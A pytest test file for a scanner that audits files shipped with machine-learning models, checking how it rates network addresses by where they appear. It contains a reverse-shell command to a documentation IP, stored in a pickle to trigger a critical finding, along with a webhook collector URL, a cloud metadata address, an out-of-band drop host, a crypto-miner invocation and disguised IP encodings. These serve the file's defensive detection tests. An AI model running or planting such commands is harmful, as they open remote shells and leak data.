"""Addresses in files that come with models, judged by where they stand."""

import json
import pickle
import random

import pytest

from modelaudit.engine.facts import Arg, Call, Text
from modelaudit.pipeline.scan import scan

SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"


def keys(ruleset, text, role):
    derived = ruleset.deriver.derive(Text(value=text, role=role))[1]
    return {fact.key for fact in derived if fact.KIND == "reference"}


@pytest.fixture
def found(ruleset, tmp_path):
    """A function that gives rule and severity of each finding about the network in a file."""

    def run(name, data):
        (tmp_path / name).write_bytes(data)
        document = scan([str(tmp_path)], ruleset)
        return {(each.rule, each.severity) for each in document.findings if each.rule.startswith("MA54")}

    return run


def test_a_collector_in_a_configuration_is_a_warning(found):
    assert found("config.json", json.dumps({"hook": "https://webhook.site/x"}).encode()) == {("MA5401", "warning")}


def test_a_command_in_a_string_of_a_pickle_is_critical(found):
    assert found("model.pkl", pickle.dumps({"note": SHELL})) == {("MA5405", "critical")}


@pytest.mark.parametrize("name", ["README.md", "vocab.txt", "LICENSE", "merges.txt"])
def test_pages_licences_and_vocabularies_say_nothing(found, name):
    text = (
        f"{SHELL}\nhttp://169.254.169.254/ https://webhook.site/x http://45.77.12.9/ http://0x7f000001/ xmrig --url a"
    )
    assert found(name, text.encode()) == set()


def test_an_argument_of_a_call_tells_whose_it_is(ruleset):
    call = Call("m", target="acme.fetch", args=(Arg(type="str", value="https://ab.oastify.com/x"),))
    reference = ruleset.deriver.derive(call)[1][0]
    assert (reference.owner, reference.role, reference.key) == ("acme.fetch", "argument", "drop-host")


BENIGN = [
    '{"homepage": "https://huggingface.co/acme/model", "license_link": "https://acme.io/1.2.3.4/LICENSE"}',
    '{"version": "1.2.3.4", "torch": "2.1.0.20231001", "rope": 10000.0, "hex": "0x7f000001", "id": 3232235521}',
    "MASTER = 'tcp://127.0.0.1:29500'; url = 'http://localhost:8080/v1'; ray = 'http://10.2.3.4:8265'",
    "import os\nos.dup2(a, b)\n# see dev/tcp notes, bash -inline, nc = n_classes -e, power shell\n",
    "func(nc -encoder, self.nc - 1); ncat = np.concatenate([nc -e])",
    '{"_name_or_path": "file:///home/user/model", "data": "data:image/png;base64,iVBORw0KGgo="}',
    "http://0x80.pl/articles https://0000.mq.acme.io/",
    "https://user.github.io/x https://raw.githubusercontent.com/acme/x/main/a.json https://s3.amazonaws.com/b/c",
]


@pytest.mark.parametrize("role", ["config", "source", "template", "metadata", "literal"])
@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_addresses_and_numbers_are_nothing(ruleset, text, role):
    assert keys(ruleset, text, role) == set()


@pytest.mark.parametrize("seed", range(3))
def test_noise_and_versions_hold_no_addresses(ruleset, seed):
    rng = random.Random(seed)
    noise = "".join(chr(rng.randrange(32, 127)) for _ in range(60_000))
    versions = " ".join(".".join(str(rng.randrange(256)) for _ in range(4)) for _ in range(3000))
    assert keys(ruleset, noise, "config") == keys(ruleset, versions, "config") == set()


@pytest.mark.parametrize("host", ["0x7f.1", "0177.0.0.1", "017700000001", "0x2d4d0c09", "759827465", "45.77.012.9"])
def test_numbers_in_disguise_are_told(ruleset, host):
    assert "disguised-address" in keys(ruleset, f"http://{host}/x", "config")
